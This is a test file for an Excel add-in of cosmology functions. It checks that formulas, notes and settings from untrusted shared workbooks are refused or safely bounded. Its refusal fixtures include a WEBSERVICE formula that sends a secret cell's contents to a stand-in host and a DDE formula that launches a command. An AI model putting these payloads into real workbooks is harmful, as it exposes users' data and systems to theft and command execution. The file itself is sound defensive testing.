/**
 * A shared workbook is a stranger's input. Everything it stores — notes, comments, formulas, our
 * settings — is crafted here as an attacker would, and each path that reads it is checked: what the
 * pane may write back (`restorableFormula`), the provenance notes, the stored models and their caps,
 * the repair scan's bounds, degenerate models that once gave invented answers, the inspector on a long
 * formula. The memory of one formula with thousands of distinct models: test/bundleMemory.test.ts; the
 * pane itself in chromium: test/browser/hostileWorkbook.test.ts.
 */
import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { describe, expect, test } from "vitest";
import { parseModelSpec } from "../core/index.js";
import { readActiveModel } from "../functions/activeModel.js";
import { CellError } from "../functions/cellError.js";
import { definitions } from "../functions/definitions.js";
import { evaluate } from "../functions/evaluate.js";
import { maxSpecLength, maxWorkbookModels, readWorkbookModels } from "../functions/workbookModels.js";
import { findUnboundFormulas, scanCellLimit, scanChunkCells } from "../taskpane/excelHost.js";
import { parseProvenanceNote, provenanceNote } from "../taskpane/provenanceNote.js";
import { restorableFormula } from "../taskpane/restorableFormula.js";

const root = fileURLToPath(new URL("..", import.meta.url));
const fakeSource = readFileSync(`${root}test/browser/fakeOffice.js`, "utf8");
const g = globalThis as unknown as { window: { __fakeInit?: unknown; __fake: { reads: number[] } } };
function install(init: object) {
  g.window = globalThis as never;
  g.window.__fakeInit = init;
  new Function(fakeSource)();
  return g.window.__fake;
}

describe("what the pane may write back into a workbook", () => {
  // formula as a note, comment or #NAME? cell may hold it | the reason given (a fragment) — the attacks of the review
  const refused: [formula: string, reason: RegExp][] = [
    ['=WEBSERVICE("https://example.invalid/?d="&ENCODEURL(Secrets!A1))', /WEBSERVICE, which is not a zcell function/],
    ["=cmd|' /C calc'!A0", /DDE link/],
    ['=HYPERLINK("https://example.invalid","open")', /HYPERLINK/],
    ["=SEQUENCE(1000,1000)", /SEQUENCE/],
    ['=IF(ISERROR(_xldudf_ZC_VERSION()),_xldudf_ZC_VERSION(),WEBSERVICE("x"&Secrets!A1))', /IF, which is not a zcell function/],
    ["=ZC.DIST_LUM([Book1]Sheet1!A1)", /another workbook/],
    ["=ZC.DIST_LUM('C:\\data\\[Other.xlsx]Sheet1'!A1)", /another workbook/],
    ["=ZC.DIST_LUM(Table1[z])", /another workbook or a table/],
    ["=ZC.DIST_LUM(Hidden)", /uses the name Hidden/],
    ["=ZC.DIST_LUM(A1#)", /spill reference/],
    ["=@ZC.DIST_LUM(A1)", /"@"/],
    ['=ZC.DIST_LUM("unterminated)', /cannot read it/],
    ["=ZC.DIST_LUM(A1))", /parentheses/],
    ["=ZC.NOT_OURS(1)", /ZC.NOT_OURS is not a zcell function/],
    ["=1+2", /calls no zcell function/],
    ["plain text", /not a formula/],
    [`=ZC.DIST_LUM(${"1+".repeat(5000)}1)`, /longer than Excel allows/],
  ];
  test.each(refused)("refuses %s", (formula, reason) => {
    for (const singleCell of [true, false]) {
      const verdict = restorableFormula(formula, { singleCell });
      expect(verdict.ok).toBe(false);
      if (!verdict.ok) expect(verdict.reason).toMatch(reason);
    }
  });

  // formula | restored for Thaw (one cell) | re-entered by the repair banner | written as
  const allowed: [string, boolean, boolean, string][] = [
    ['=ZC.DIST_LUM(A2, "P18-BAO; H0=73")', true, true, '=ZC.DIST_LUM(A2, "P18-BAO; H0=73")'],
    ["=_xldudf_ZC_DIST_LUM(B3)*2+1", true, true, "=ZC.DIST_LUM(B3)*2+1"],
    ["=ZC.DIST_LUM('My sheet'!$B$3)/1000", true, true, "=ZC.DIST_LUM('My sheet'!$B$3)/1000"],
    ["=ZC.MAG_ABS(22, A2, ZC.KCORRECTION(A2, -0.5))", true, true, "=ZC.MAG_ABS(22, A2, ZC.KCORRECTION(A2, -0.5))"],
    ['=ZC.DIST_LUM(A2,\n "P18-BAO; H0=73")', true, true, '=ZC.DIST_LUM(A2,\n "P18-BAO; H0=73")'],
    ['=ZC.DIST_LUM(1,"WEBSERVICE(x)")', true, true, '=ZC.DIST_LUM(1,"WEBSERVICE(x)")'],
    ["=ZC.DIST_LUM(A2:A9)", false, true, "=ZC.DIST_LUM(A2:A9)"],
    ["=ZC.DIST_LUM(A:A)", false, true, "=ZC.DIST_LUM(A:A)"],
    ["=ZC.DIST_LUM({0.1,0.2})", false, true, "=ZC.DIST_LUM({0.1,0.2})"],
    ["=ZC.PRESETS()", false, true, "=ZC.PRESETS()"],
  ];
  test.each(allowed)("%s: Thaw %s, repair %s", (formula, thaw, repair, written) => {
    const one = restorableFormula(formula, { singleCell: true });
    const any = restorableFormula(formula, { singleCell: false });
    expect(one.ok).toBe(thaw);
    if (!one.ok) expect(one.reason).toMatch(/could spill over other cells/);
    expect(any).toEqual(repair ? { ok: true, formula: written } : expect.objectContaining({ ok: false }));
  });
});

describe("provenance notes", () => {
  test("a formula of several lines survives freeze and thaw whole", () => {
    const formula = '=ZC.DIST_LUM(A2,\n "P18-BAO; H0=73")';
    const note = provenanceNote(formula, ["P18-BAO; H0=73"], "0.1.0", "2026-12-02");
    expect(parseProvenanceNote(note)).toEqual({ formula, models: ["P18-BAO; H0=73"] });
  });

  test("notes written by the earlier version (formula as it was) are still read, several lines too", () => {
    const earlier = ["Frozen by zcell 0.1.0 on 2026-12-01.", "Formula: =ZC.DIST_LUM(A2,", ' "W9-ALL")', "Model: W9-ALL", "Value computed under that cosmology; recompute with the add-in if the model changes."].join("\n");
    expect(parseProvenanceNote(earlier)).toEqual({ formula: '=ZC.DIST_LUM(A2,\n "W9-ALL")', models: ["W9-ALL"] });
  });

  test("a person's note, a broken JSON formula or an oversized note is not ours", () => {
    expect(parseProvenanceNote("Check this value\nFormula: =ZC.AGE()\nModel: W9-ALL")).toBeUndefined();
    expect(parseProvenanceNote('Frozen by zcell 0.2 on x.\nFormula: "=ZC.AGE(\nModel: W9-ALL')).toBeUndefined();
    expect(parseProvenanceNote(`Frozen by zcell 0.2 on x.\nFormula: "=ZC.AGE()"\nModel: ${"x".repeat(70_000)}`)).toBeUndefined();
  });
});

describe("stored settings: whatever they hold, a bounded reading and a plain warning", () => {
  const settingsOf = (active: unknown, models?: unknown) => install({ settings: { "zcell.activeModel": active, ...(models === undefined ? {} : { "zcell.workbookModels": models }) } });

  // stored active model | warning (fragment) — the functions and the pane then use the default, P18-CMB
  const unusable: [unknown, RegExp][] = [
    ["H0=70; Om=0; OL=2", /no big bang/],
    [42, /not text/],
    [{ spec: "W9-ALL" }, /not text/],
    ["P18-BAO; Om=x", /"x" is not a number/],
    ["x".repeat(maxSpecLength + 1), /longer than 500 characters/],
    ["NO-SUCH-MODEL", /unknown preset/],
  ];
  test.each(unusable)("active model %j falls back to the default model (P18-CMB) with a warning", (stored, warning) => {
    settingsOf(stored);
    const active = readActiveModel();
    expect(active).toMatchObject({ spec: "P18-CMB", stored: false });
    expect(active.warning).toMatch(warning);
    expect(active.warning!.length).toBeLessThan(400);
  });

  test(`at most ${maxWorkbookModels} workbook models are read; the rest are counted, and no message lists them all`, () => {
    const stored: Record<string, string> = {};
    for (let i = 0; i < 30_000; i++) stored[`M${i}`] = `P18-BAO; H0=${60 + i / 1000}`;
    stored["bad name!"] = "W9-ALL";
    const models = readWorkbookModels(stored);
    expect(models.specs.size).toBe(maxWorkbookModels);
    expect(models.problems.join(" ")).toMatch(`only the first ${maxWorkbookModels} workbook models are read; 29901 more are left out`);
    let message = "";
    try {
      parseModelSpec("UNKNOWN", models.named);
    } catch (e) {
      message = (e as Error).message;
    }
    expect(message).toMatch(/unknown preset "UNKNOWN": use one of .* … and \d+ more$/);
    expect(message.length).toBeLessThan(300);
  });

  test("entries with long names, long specs, wrong types or bad specs are left out with at most five sentences", () => {
    const models = readWorkbookModels({
      ["L".repeat(5000)]: "W9-ALL",
      LONGSPEC: `W9-ALL; ${"H0=70; ".repeat(200)}`,
      NUMBER: 3,
      BROKEN: "H0=abc",
      OK: "W9-ALL; H0=70",
      A1: 1, A2: 2, A3: 3,
    });
    expect([...models.specs.keys()]).toEqual(["OK"]);
    expect(models.problems.length).toBe(6);
    expect(models.problems[5]).toBe("… and 2 more workbook models that could not be read");
    expect(models.problems.join(" ").length).toBeLessThan(1000);
  });
});

describe("degenerate models give no invented answers", () => {
  const active = { spec: "P18-BAO", stored: false };
  const cell = (name: string, ...args: unknown[]) => evaluate(definitions[name], args, active)[0][0];
  const nearlyDeSitter = "H0=70; Om=0; OL=1; w0=-0.9999999";

  test("the redshift of an age in a model whose age integral does not converge is #N/A with the reason", () => {
    const c = cell("REDSHIFT", 1, "AGE", nearlyDeSitter);
    expect(c).toBeInstanceOf(CellError);
    expect((c as CellError).kind).toBe("na");
    expect((c as CellError).message).toMatch(/age of this model is not finite to numerical precision/);
  });

  test("a distance modulus too large for any finite distance is #N/A, not z = 1e154", () => {
    const c = cell("REDSHIFT", 1e6, "MODULUS", nearlyDeSitter);
    expect(c).toBeInstanceOf(CellError);
    expect((c as CellError).kind).toBe("na");
  });

  test("the age itself is #NUM!, never a number", () => {
    expect(cell("AGE", 0, nearlyDeSitter)).toBeInstanceOf(CellError);
  });
});

describe("the repair scan is bounded", () => {
  test("a sheet with values in A1 and XFD1048576 is scanned up to the cell limit, and the pane is told where it stopped", async () => {
    const fake = install({
      settings: {},
      sheets: {
        Sparse: { A1: { formula: "=ZC.AGE()", value: "#NAME?" }, XFD1048576: { value: "far away" } },
        Small: { B2: { formula: "=ZC.DIST_LUM(1)", value: "#NAME?" } },
      },
    });
    const scan = await findUnboundFormulas();
    expect(scan.formulas.map((f) => `${f.sheet}!${f.address}`)).toEqual(["Sparse!A1", "Small!B2"]);
    const cellsRead = fake.reads.reduce((a, b) => a + b, 0);
    expect(cellsRead).toBeLessThanOrEqual(scanCellLimit + 1);
    expect(Math.max(...fake.reads)).toBeLessThanOrEqual(scanChunkCells);
    expect(scan.gaps).toEqual([{ sheet: "Sparse", what: "scanned rows 1–64 of A1:XFD1048576 only (the first 1,048,576 cells)" }]);
  });

  test("a scan stopped by the person reports the sheets it did not look at", async () => {
    install({ settings: {}, sheets: { One: { A1: { formula: "=ZC.AGE()", value: "#NAME?" } }, Two: { A1: { formula: "=ZC.AGE()", value: "#NAME?" } } } });
    const control = { cancelled: true };
    const scan = await findUnboundFormulas(control);
    expect(scan.formulas).toEqual([]);
    expect(scan.gaps).toEqual([
      { sheet: "One", what: "not scanned (stopped)" },
      { sheet: "Two", what: "not scanned (stopped)" },
    ]);
  });
});

describe("the inspector on a long formula", () => {
  test("154 calls with one model build it at most once and read each reference once", async () => {
    const { explainFormula } = await import("../taskpane/explainCall.js");
    const { cachedModelCount } = await import("../functions/modelCache.js");
    const formula = "=" + Array.from({ length: 154 }, (_, i) => `ZC.DIST_LUM(A${1 + (i % 2)},"P18-BAO; H0=70.25")`).join("+");
    expect(formula.length).toBeGreaterThan(5000);
    const before = cachedModelCount();
    const reads: string[] = [];
    const t0 = performance.now();
    const calls = await explainFormula(formula, async (reference) => (reads.push(reference), [[0.5]]), { spec: "P18-BAO", stored: false });
    const ms = performance.now() - t0;
    console.log(`inspector: ${calls.length} calls explained in ${ms.toFixed(0)} ms`);
    expect(calls.length).toBe(154);
    expect(calls[0].result).toMatch(/^2\d{3}\.\d+ Mpc$/);
    expect(cachedModelCount() - before).toBeLessThanOrEqual(1);
    expect(reads.sort()).toEqual(["A1", "A2"]);
  });
});
